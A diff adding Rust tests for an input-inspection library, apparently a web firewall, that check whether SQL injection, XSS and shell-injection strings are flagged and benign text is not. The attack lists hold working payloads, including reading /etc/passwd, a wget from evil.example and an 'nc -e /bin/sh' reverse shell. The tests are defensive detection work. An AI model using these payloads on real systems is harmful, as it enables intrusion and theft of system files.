@@ -1,0 +1,237 @@
+//! What is judged an attack, and what is not: each judgement in the spellings that mean the same.
+
+use margay_meaning::Judge;
+use margay_meaning::args::{ArgLimits, Args};
+use margay_meaning::decode::{Decoding, canonical};
+use proptest::prelude::*;
+
+fn judged(judge: Judge, value: &str) -> bool {
+    let mut out = Vec::new();
+    canonical(value.as_bytes(), &mut out);
+    judge.holds(&out)
+}
+
+fn all(judge: Judge, want: bool, values: &[&str]) {
+    for value in values {
+        assert_eq!(judged(judge, value), want, "{} of {value:?}", judge.name());
+    }
+}
+
+#[test]
+fn sqli() {
+    let attacks = [
+        "1' OR '1'='1",
+        "' or 1=1 -- ",
+        "\" or \"\"=\"",
+        "admin'--",
+        "1 or 1=1",
+        "1) or (1=1",
+        "1 UNION ALL SELECT NULL, NULL, version()",
+        "-1/**/union/**/select/**/1,2",
+        "1 uni/**/on sel/**/ect 1,2,3",
+        "1; drop table users",
+        "'; exec master..xp_cmdshell 'dir' --",
+        "1 and sleep(5)",
+        "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- ",
+        "' waitfor delay '0:0:5' --",
+        "x' and extractvalue(1, concat(0x7e, version())) and '1'='1",
+        "1 order by 10",
+        "' having 1=1--",
+        "%27%20or%201%3D1%20--",
+        "1\u{2019} or \u{2019}1\u{2019}=\u{2019}1",
+        "select * from information_schema.tables",
+        "1 procedure analyse()",
+        "'||(select 1)||'",
+        "' or '{\"a\":1}'::jsonb @> '{\"a\":1}'",
+    ];
+    all(Judge::Sqli, true, &attacks);
+    let harmless = [
+        "",
+        "1",
+        "O'Reilly",
+        "it's or it isn't",
+        "rock and roll",
+        "select a colour from the list",
+        "union of workers select a speaker",
+        "bob's or alice's",
+        "John -- the second one",
+        "price < 10 and > 5",
+        "drop me a line; update me tomorrow",
+        "a=b&c=d",
+        "{\"op\":\"and\",\"n\":1}",
+        "C# and F#",
+        "where is the order by mail?",
+        "5 in 1",
+    ];
+    all(Judge::Sqli, false, &harmless);
+}
+
+#[test]
+fn xss() {
+    let attacks = [
+        "<script>alert(1)</script>",
+        "<ScRiPt src=//evil.example/x.js>",
+        "\"><img src=x onerror=alert(1)>",
+        "<svg/onload=alert(1)>",
+        "<a href=\"java\tscript:alert(1)\">x</a>",
+        "<iframe src=x>",
+        "' onmouseover='alert(1)",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "\\u003cscript\\u003ealert(1)",
+        "<div style=\"width: expression(alert(1))\">",
+        "top['ale'+'rt'](document['domain'])",
+        "constructor.constructor('alert(1)')()",
+        "＜script＞alert(1)＜/script＞",
+    ];
+    all(Judge::Xss, true, &attacks);
+    let harmless = [
+        "a < b > c",
+        "<b>bold</b> and <i>italic</i>",
+        "<p>text</p>",
+        "I <3 you",
+        "one=1&only=2",
+        "see http://example.com/script.html",
+        "javascript is a language",
+        "binary<script\" is incorrect",
+        "javascript:void(0)",
+    ];
+    all(Judge::Xss, false, &harmless);
+}
+
+#[test]
+fn shell() {
+    let attacks = [
+        "127.0.0.1; cat /etc/passwd",
+        "127.0.0.1|whoami",
+        "`id`",
+        "$(uname -a)",
+        "x && wget http://evil.example/x.sh",
+        "a\nid\n",
+        ";c'a't /etc/pass?d",
+        ";c\\at${IFS}/etc/passwd",
+        ";/bin/ca? /et*/passwd",
+        "| nc -e /bin/sh 192.0.2.1 4444",
+        "&& ping -c 10 127.0.0.1",
+        "a;who^ami",
+    ];
+    all(Judge::Shell, true, &attacks);
+    let harmless = [
+        "Tom & Jerry",
+        "now; more than that",
+        "cats and dogs; a find",
+        "a|b|c",
+        "time; date; place",
+        "(id)",
+        "the host; a test of time",
+        "head & shoulders",
+    ];
+    all(Judge::Shell, false, &harmless);
+}
+
+#[test]
+fn decodings() {
+    let run = |d: Decoding, text: &str| {
+        let mut out = Vec::new();
+        d.run(text.as_bytes(), &mut out);
+        out.escape_ascii().to_string()
+    };
+    assert_eq!(run(Decoding::UrlRecursive, "%2527%u0041%zz+"), "'A%zz+".escape_debug().to_string());
+    assert_eq!(run(Decoding::HtmlEntity, "&lt;&#60;&#x3C;&amp;lt;&ltx&nosuch;"), "<<<&lt;&ltx&nosuch;");
+    assert_eq!(run(Decoding::Js, r"\x41\u0042\u{43}\104 \b\q"), r"ABCD \\b\\q");
+    assert_eq!(run(Decoding::Utf8, "\u{ff1c}a\u{2019}\u{200b}b\u{3000}c"), r"<a\'b c");
+    let mut overlong = Vec::new();
+    Decoding::Utf8.run(b"\xc0\xae\xc0\xae\xc0\xaf", &mut overlong);
+    assert_eq!(overlong, b"../");
+    assert_eq!(run(Decoding::Comments, "a/* x */b/*!50000c*/d/*e"), "a b c d ");
+    assert_eq!(run(Decoding::Shell, "c'a't${IFS}/e\\tc/pa$@ss`` w^ho"), "cat /etc/pass who");
+    assert_eq!(run(Decoding::Path, r"a\.\b//c/./../d"), "a/b/c/../d");
+    assert_eq!(run(Decoding::Base64, "c2VsZWN0IDEgZnJvbSB1c2Vycw=="), "select 1 from users");
+    assert_eq!(run(Decoding::Base64, "short"), "short");
+    assert_eq!(run(Decoding::Canonical, "%253Cs%0A%20X&#x3E;"), r"<s\nx>");
+}
+
+fn list(fill: impl FnOnce(&mut Args)) -> Vec<String> {
+    let mut args = Args::new(ArgLimits::default());
+    fill(&mut args);
+    (0..args.len()).filter_map(|i| args.get(i)).map(|v| String::from_utf8_lossy(v).into_owned()).collect()
+}
+
+#[test]
+fn arguments() {
+    assert_eq!(
+        list(|a| a.form(b"a=1%202&b+c=d&e&&f=%7B%22g%22%3A%22h%22%7D")),
+        ["a", "1 2", "b c=d", "d", "e", "f", "g", "h"]
+    );
+    assert_eq!(list(|a| a.cookies(b" a=b; c ;d=%41")), ["a", "b", "c", "d", "A"]);
+    assert_eq!(list(|a| a.path(b"/a%2fb")), ["/a/b"]);
+    assert_eq!(
+        list(|a| a.json(br#"{"a":["b\n\u0027\ud83d\ude00",1],"c":"{\"d\":\"e\"}"}"#)),
+        ["a", "b\n'\u{1f600}", "c", "d", "e"]
+    );
+    assert_eq!(list(|a| a.xml(b"<?xml v='1'?><a b=\"c&lt;\">d<![CDATA[<e>]]></a>")), ["1", "c<", "d", "<e>"]);
+    let multipart = b"--X\r\nContent-Disposition: form-data; name=\"n\"\r\n\r\nv\r\n--X\r\nContent-Disposition: form-data; name=\"f\"; \
+        filename=\"a.php\"\r\n\r\n<?php\r\n--X--\r\n";
+    assert_eq!(list(|a| a.body(b"multipart/form-data; boundary=X", multipart)), ["n", "v", "f", "a.php"]);
+    assert_eq!(list(|a| a.body(b"application/json", b"{\"a\":")), ["a", "{\"a\":"]);
+    assert_eq!(list(|a| a.body(b"text/plain", b"x=y")), ["x=y", "x", "y"]);
+    assert_eq!(list(|a| a.body(b"image/png", b"\x89PNG")), [""; 0]);
+    let few = ArgLimits { count: 2, bytes: 1000 };
+    let mut args = Args::new(few);
+    args.form(b"a=b&c=d");
+    assert!(args.is_cut() && args.len() == 2);
+    let mut args = Args::new(ArgLimits { count: 9, bytes: 3 });
+    args.form(b"ab=cdef");
+    assert_eq!((args.get(0), args.get(1), args.is_cut()), (Some(&b"ab"[..]), Some(&b"c"[..]), true));
+}
+
+/// What an attacker repeats costs a time that grows with its length, not with the square of it: where it did, this would not end.
+#[test]
+fn repeated() {
+    let pieces = [
+        "'", "\"", "\\'", "/*", "--", "--a", "(", "union ", "<", "<a ", "=", "on=", ":", "java", ";", "|", "`", "$(",
+        "%", "&#", "\\u", "a'b\"c", "select ", "[{\"", "../", "\n", "+", "<!--", "or ",
+    ];
+    for piece in pieces {
+        let value = piece.repeat((64 << 10) / piece.len());
+        let mut out = Vec::new();
+        canonical(value.as_bytes(), &mut out);
+        for judge in Judge::ALL {
+            judge.holds(&out);
+            judge.holds(value.as_bytes());
+        }
+        let mut args = Args::new(ArgLimits::default());
+        args.form(value.as_bytes());
+        args.json(value.as_bytes());
+        args.xml(value.as_bytes());
+        args.body(b"multipart/form-data; boundary=a", value.as_bytes());
+    }
+}
+
+proptest! {
+    /// Nothing that is sent ends in a panic, and no decoding grows beyond what its documentation says.
+    #[test]
+    fn anything(data in proptest::collection::vec(any::<u8>(), 0..400)) {
+        for decoding in Decoding::ALL {
+            let mut out = Vec::new();
+            decoding.run(&data, &mut out);
+            prop_assert!(out.len() <= data.len() * 2 + 4, "{}: {} of {}", decoding.name(), out.len(), data.len());
+        }
+        for judge in Judge::ALL {
+            judge.holds(&data);
+        }
+        let mut args = Args::new(ArgLimits::default());
+        args.body(b"", &data);
+        args.body(b"application/json", &data);
+        args.body(b"text/xml", &data);
+        args.body(b"multipart/mixed; boundary=\"a\"", &data);
+    }
+
+    /// The canonical form of a canonical form is itself, but for Base64 that only small letters hide.
+    #[test]
+    fn canonical_is_final(text in "[ -~]{0,60}") {
+        let (mut once, mut twice) = (Vec::new(), Vec::new());
+        canonical(text.as_bytes(), &mut once);
+        canonical(&once, &mut twice);
+        prop_assert!(twice.len() <= once.len());
+    }
+}
